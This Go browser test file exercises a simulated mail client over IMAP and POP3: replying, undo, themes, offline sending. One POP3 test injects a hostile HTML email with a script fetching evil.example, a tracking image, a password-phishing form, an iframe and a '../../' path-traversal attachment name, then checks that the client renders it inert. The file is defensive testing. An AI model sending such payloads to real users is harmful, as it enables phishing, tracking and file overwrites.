package browser

import (
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// mailOf opens the mail program of a person.
func (p *tab) mailOf(person string) {
	p.t.Helper()
	p.choose("#open", "Mail of "+person)
	eval[any](p, `ehlo.mailView().then(() => null)`) // the whole core is there, however slow the machine
	p.until("the mail program is there", `document.querySelector(".mua__folders .fold") && !document.getElementById("mail").hidden`)
}

// click clicks a button of the mail program and waits until it has done all.
func (p *tab) mailClick(selector string) {
	p.t.Helper()
	p.until(selector+" can be clicked", fmt.Sprintf(`(() => { const b = document.querySelector(%q); return b && !b.disabled; })()`, selector))
	before := p.inputs()
	eval[any](p, fmt.Sprintf(`void document.querySelector(%q).click()`, selector))
	p.until("the click is an input", fmt.Sprintf(`ehlo.state().then((s) => s.inputs > %d)`, before))
	p.mailRests()
}

func (p *tab) inputs() int {
	p.t.Helper()
	return eval[int](p, `ehlo.state().then((s) => s.inputs)`)
}

// mailRests waits until the mail program shows what has come of everything.
func (p *tab) mailRests() {
	p.t.Helper()
	call[any](p, "run")
	p.until("the mail program has done all", `!document.querySelector("[data-mail=check]").disabled || document.querySelector("[data-mail=offline]").getAttribute("aria-pressed") === "true"`)
}

// wire is what stands on the wire side below the last click.
func (p *tab) wire() string {
	p.t.Helper()
	return eval[string](p, `document.querySelector(".wire > li:last-child").textContent`)
}

// TestMailProgram reads and answers by IMAP, beside the lines that it causes, and takes it back. axe-core looks at it in each
// theme and on a phone.
func TestMailProgram(t *testing.T) {
	p := newTab(t, nil)
	p.do(addScript(caught))
	p.world("two-domains")
	eval[any](p, axeScript+";null")
	call[any](p, "pause") // a click then does at once all that comes of it
	p.mailOf("bob")
	p.mailClick("[data-mail=check]")
	p.until("the list is there", `[...document.querySelectorAll(".mua__list .msg b")].map((b) => b.textContent).join() === "Shopping list,The garden on Tuesday"`)
	if said := p.wire(); !strings.Contains(said, "Get mail") || !strings.Contains(said, "SELECT INBOX") || !strings.Contains(said, "ENVELOPE") {
		t.Errorf("the wire shows %s", said)
	}
	p.screenshot("mail-list", "console")
	p.mailClick(".mua__list .msg")
	p.until("the message is there", `document.querySelector(".mua__text")?.textContent.includes("the small nails")`)
	p.until("its lines are there", `document.querySelector(".wire > li:last-child").textContent.includes("BODY.PEEK[]")`)
	eval[any](p, `void [...document.querySelectorAll(".wire .ln--c")].slice(-2).forEach((line) => line.click())`)
	p.until("the line chosen last explains itself, alone", `document.querySelectorAll(".wire .gloss").length === 1 && [...document.querySelectorAll(".wire .ln--c")].at(-1).nextElementSibling?.querySelector(".gloss__parts dt")`)
	p.screenshot("mail-message", "console")
	for _, look := range []struct {
		name, theme   string
		width, height int64
	}{{"dark", "dark", 1440, 900}, {"projector", "projector", 1280, 720}, {"phone", "light", 360, 740}, {"", "", 1440, 900}} {
		p.do(chromedp.EmulateViewport(look.width, look.height))
		eval[any](p, fmt.Sprintf(`void (document.documentElement.dataset.theme = %q)`, look.theme))
		p.settle()
		if look.name == "" {
			eval[any](p, `delete document.documentElement.dataset.theme`)
			break
		}
		p.obeys("mail-" + look.name)
		p.save("mail-" + look.name)
		if wide := eval[int](p, "document.documentElement.scrollWidth"); wide > int(look.width) {
			t.Errorf("%s: the page is %d px wide in a window of %d", look.name, wide, look.width)
		}
	}

	// An answer, by keyboard.
	eval[any](p, `document.querySelector("[data-mail=reply]").focus()`)
	p.keys(kb.Enter)
	p.until("the answer can be written", `document.activeElement.id === "mail-text" && document.getElementById("mail-to").value === "Carla <carla@example.net>" && document.getElementById("mail-subject").value === "Re: Shopping list"`)
	p.keys("Done.")
	p.screenshot("mail-reply", "console")
	eval[any](p, `document.querySelector("[data-mail=send]").focus()`)
	p.keys(kb.Enter)
	p.until("it is sent", `!document.querySelector("dialog")`)
	p.mailRests()
	p.until("it is in carla's mailbox", `ehlo.mailboxes().then((boxes) => boxes.find((b) => b.address === "carla@example.net").messages.some((m) => m.subject === "Re: Shopping list"))`)
	p.until("a copy is kept on the server", `[...document.querySelectorAll(".mua__folders .fold")].some((f) => f.textContent.startsWith("Sent"))`)
	text := eval[string](p, `ehlo.message("carla@example.net", "INBOX", 1).then((m) => m.text)`)
	for _, want := range []string{"From: Bob <bob@example.net>", "In-Reply-To: <list@mx.example.net>", "Done.", "> Bread, tea"} {
		if !strings.Contains(text, want) {
			t.Errorf("the answer lacks %q:\n%s", want, text)
		}
	}
	p.mailClick(`[data-folder="Sent"]`)
	p.until("the copy is listed", `document.querySelector(".mua__list .msg b")?.textContent === "Re: Shopping list"`)

	// What is undone has not been; what is replayed is there again.
	call[any](p, "undo")
	p.until("the folder is the one before", `document.querySelector('[data-folder="INBOX"]').getAttribute("aria-current") === "true"`)
	p.saved()
	p.do(chromedp.Reload())
	p.ready()
	p.until("the tab is there", `[...document.querySelectorAll("#console-tabs .tab")].some((tab) => tab.textContent === "Mail of bob" && (tab.click(), true))`)
	p.until("the program knows what it knew", `document.querySelectorAll(".mua__list .msg").length === 2 && document.querySelector(".mua__text")?.textContent.includes("the small nails")`)
}

// TestMailByPOP3 changes the account, fetches, works offline, and reads HTML that would do harm.
func TestMailByPOP3(t *testing.T) {
	p := newTab(t, nil)
	p.do(addScript(caught))
	p.world("two-domains")
	call[any](p, "pause") // a click then does at once all that comes of it
	call[any](p, `call`, "script", map[string]string{"text": strings.Join([]string{"at desk.example.net", "telnet mx.example.net 25", "> EHLO x.example", "> MAIL FROM:<eve@example.net>", "> RCPT TO:<bob@example.net>", "> DATA",
		"> Subject: =?utf-8?B?PGI+WW91PC9iPg==?=", "> MIME-Version: 1.0", "> Content-Type: multipart/mixed; boundary=x", ">", "> --x", "> Content-Type: text/html; charset=utf-8", ">",
		`> <p style="position:fixed" onclick="alert(1)">Look <a href="https://evil.example/?bob">here</a><script>fetch("https://evil.example/")</script><img src="https://evil.example/seen.png" onerror="alert(2)"><style>*{display:none}</style><form action="https://evil.example/"><input name="password"><button>Go</button></form><iframe src="https://evil.example/"></iframe></p>`,
		"> --x", "> Content-Type: application/octet-stream; name=\"../../notes.bin\"", "> Content-Disposition: attachment; filename=\"../../notes.bin\"", "> Content-Transfer-Encoding: base64", ">", "> AAEC", "> --x--", "> .", "> QUIT"}, "\n")})
	p.mailOf("bob")
	eval[any](p, `void document.querySelector("[data-mail=settings]").click()`)
	p.until("the account is there", `document.getElementById("mail-protocol").value === "imap" && document.getElementById("mail-incoming").value === "mx.example.net:143"`)
	eval[any](p, `(() => {
		const protocol = document.getElementById("mail-protocol");
		protocol.value = "pop3";
		protocol.dispatchEvent(new Event("change"));
	})()`)
	p.screenshot("mail-account", "console")
	eval[any](p, `document.querySelector("dialog form").requestSubmit()`)
	p.until("it is saved", `!document.querySelector("dialog")`)
	p.mailClick("[data-mail=check]")
	p.until("all are there", `document.querySelectorAll(".mua__list .msg").length === 3`)
	if said := p.wire(); !strings.Contains(said, "UIDL") || !strings.Contains(said, "RETR 3") || strings.Contains(said, "DELE") {
		t.Errorf("the wire shows %s", said)
	}
	p.mailClick(".mua__list .msg")
	p.until("HTML is shown inert", `document.querySelector(".mua__inert")?.textContent.includes("Look here [https://evil.example/?bob]")`)
	if bad := eval[string](p, `[...document.querySelectorAll(".mua__inert *")].filter((e) => e.attributes.length || ["SCRIPT", "IMG", "A", "FORM", "INPUT", "BUTTON", "IFRAME", "STYLE"].includes(e.nodeName)).map((e) => e.outerHTML).join("\n")`); bad != "" {
		t.Errorf("the HTML is alive: %s", bad)
	}
	if said := p.wire(); !strings.Contains(said, "No line is said") {
		t.Errorf("a message that is here causes %s", said)
	}
	p.screenshot("mail-html", "console")
	eval[any](p, `void document.querySelector(".mua__attached button").click()`)
	p.until("the attachment is given to the browser", `saved.length === 1 && saved[0].arrayBuffer().then((b) => [...new Uint8Array(b)].join() === "0,1,2")`)

	eval[any](p, `void document.querySelector("[data-mail=settings]").click()`)
	p.until("the account is there again", `document.getElementById("mail-keep")?.checked`)
	eval[any](p, `(document.getElementById("mail-keep").checked = false, document.querySelector("dialog form").requestSubmit())`)
	p.until("it is saved again", `!document.querySelector("dialog")`)
	p.mailClick("[data-mail=check]")
	p.until("nothing is left on the server", `ehlo.mailboxes().then((boxes) => boxes.find((b) => b.address === "bob@example.net").messages.length === 0)`)
	if said := p.wire(); !strings.Contains(said, "DELE 3") || strings.Contains(said, "RETR") {
		t.Errorf("without 'leave on server' the wire shows %s", said)
	}
	p.until("what was fetched is still here", `document.querySelectorAll(".mua__list .msg").length === 3`)

	p.mailClick("[data-mail=offline]")
	eval[any](p, `void document.querySelector("[data-mail=new]").click()`)
	p.until("a message can be written", `document.activeElement.id === "mail-to"`)
	p.keys("alice@example.org")
	eval[any](p, `document.getElementById("mail-subject").value = "Later", document.querySelector("dialog form").requestSubmit()`)
	p.until("it waits in the outbox", `!document.querySelector("dialog") && document.querySelector('[data-folder="Outbox"]').textContent === "Outbox1"`)
	p.mailClick("[data-mail=offline]")
	p.until("it went", `ehlo.mailboxes().then((boxes) => boxes.find((b) => b.address === "alice@example.org").messages.some((m) => m.subject === "Later"))`)
	p.until("it is among what was sent", `document.querySelector('[data-folder="Sent"]').textContent === "Sent1"`)
}
